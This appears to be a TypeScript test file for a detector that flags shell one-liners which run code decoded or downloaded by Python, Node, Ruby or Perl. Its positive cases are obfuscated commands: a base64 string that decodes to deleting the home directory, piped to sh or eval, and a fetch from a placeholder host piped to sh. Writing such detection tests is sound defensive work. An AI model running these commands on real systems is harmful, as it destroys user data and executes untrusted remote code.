import { expect, test } from 'vitest'
import { effectLines } from '../testing/effect-lines.ts'

const runs = (line: string): readonly string[] => effectLines(line).filter((effect) => /^execute:(?:decoded|download)/.test(effect))

test.each([
  ['Python', `python3 -c "import base64;print(base64.b64decode('cm0gLXJmIH4=').decode())" | sh`],
  ['Python that downloads', `python3 -c "import urllib.request as u;print(u.urlopen('https://x.example').read().decode())" | sh`],
  ['JavaScript', `eval "$(node -p "atob('cm0gLXJmIH4=')")"`],
  ['Ruby', `ruby -e 'puts "cm0=".unpack1("m")' | bash`],
  ['Perl, by way of a file', `perl -e 'print pack("H*","726d")' > x.sh; sh x.sh`],
])('what code decodes or downloads is run: %s', (_name, line) => {
  expect(runs(line)).not.toEqual([])
})

test.each([
  ['text that is written out', `python3 -c "print('echo hi')" | sh`],
  ['decoded text that is only shown', `node -p "atob('aGk=')" | wc -c`],
  ['an answer of a server of one’s own', `python3 -c "import requests;print(requests.get('http://localhost:1/x').text)" | sh`],
  ['quotes by their number', `ls | awk '{printf "mv %c%s%c x\\n", 39, $0, 39}' | sh`],
])('not so: %s', (_name, line) => {
  expect(runs(line)).toEqual([])
})
